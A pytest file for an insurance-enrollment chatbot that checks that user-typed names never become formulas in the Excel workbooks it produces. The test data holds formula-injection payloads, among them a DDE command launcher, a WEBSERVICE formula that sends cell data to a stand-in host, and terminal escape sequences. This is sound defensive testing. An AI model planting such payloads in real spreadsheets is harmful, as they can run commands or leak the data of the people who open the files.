"""Workbooks hubao writes carry what users typed as text: a name or unit name that looks
like a formula never becomes one, and control characters never break the file."""

from __future__ import annotations

import datetime as dt
import io
import re
import tempfile
import zipfile
from pathlib import Path

import openpyxl

from flows.storage import MemoryStorage

from helpers import button, engine, joined, key, text, upload
from roster_builders import csv_file, id_number, row_values

TODAY = dt.date(2023, 7, 10)
HOSTILE_NAMES = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.example/?a="&A1)',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "王\x1b]0;pwned\x07芳",
    "李\x07四",
]
HOSTILE_UNIT = '=HYPERLINK("http://x.example","点我")'


def formulas(data: bytes) -> list[str]:
    """Every cell formula in a workbook, read from the XML itself and from openpyxl."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            # <f> is a cell formula; <formula1> of a drop-down list is not one
            if name.startswith("xl/worksheets/") and re.search(rb"<f[\s>/]", archive.read(name)):
                found.append(name)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            found += [f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    return found


def texts(data: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [str(c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row]


async def test_every_workbook_of_an_enrollment_with_hostile_names_has_no_formula():
    bot, who = engine(MemoryStorage(), TODAY), key()
    sent: dict[str, bytes] = {}

    async def say(message) -> str:  # type: ignore[no-untyped-def]
        replies = await bot.handle(message)
        sent.update({f.name: f.data for r in replies for f in r.files})
        return joined(replies)

    for words in ["我要参保", "没有", "今天", "有", "有", "填过了", HOSTILE_UNIT]:
        await say(text(who, words))
    await say(text(who, "发我导入模板"))
    lines = [
        row_values(id_number(dt.date(1980, 1, 1) + dt.timedelta(days=i), seq=i), seq=i, name=n)
        for i, n in enumerate(HOSTILE_NAMES, start=1)
    ]
    lines.append(row_values("3101011990010112", seq=99, name="=BAD()"))  # an error: the report
    with tempfile.TemporaryDirectory() as folder:
        data = csv_file(Path(folder) / "名单.csv", lines).read_bytes()
    after_upload = await say(upload(who, "名单.csv", data))
    assert "\x1b" not in after_upload and "\x07" not in after_upload
    await say(text(who, "删除所有有问题的行"))
    await say(button(who, "v:done"))
    await say(text(who, "8"))
    await say(text(who, "8"))
    done = await say(text(who, "A0 B0 C0"))
    summary_name = next((n for n in sent if n.endswith("_参保汇总_20230710.xlsx")), None)
    assert summary_name is not None, done
    assert len(sent) >= 4, sorted(sent)  # template, report, clean roster, summary
    for filename, content in sent.items():
        assert formulas(content) == [], filename
        assert not any("\x1b" in t or "\x07" in t for t in texts(content)), filename
    summary = texts(sent[summary_name])
    assert HOSTILE_UNIT in summary  # kept as the text the handler typed
    assert "=1+1" in summary
